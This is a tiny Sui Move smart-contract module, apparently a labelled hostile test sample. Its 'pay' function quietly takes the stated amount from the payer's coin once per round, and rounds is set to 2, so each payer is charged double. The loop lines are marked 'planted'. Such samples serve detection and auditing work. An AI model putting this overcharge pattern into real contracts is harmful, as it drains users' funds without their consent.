module hostile::taken_each_round;

use sui::balance::{Self, Balance};
use sui::coin::Coin;
use sui::sui::SUI;

public struct Jar has key { id: UID, money: Balance<SUI>, rounds: u64 }

fun init(ctx: &mut TxContext) {
    transfer::share_object(Jar { id: object::new(ctx), money: balance::zero(), rounds: 2 })
}

public fun pay(purse: &mut Coin<SUI>, jar: &mut Jar, amount: u64) {
    let mut round = 0; //! planted
    while (round < jar.rounds) { //! planted
        round = round + 1; //! planted
        jar.money.join(purse.balance_mut().split(amount));
    } //! planted
}
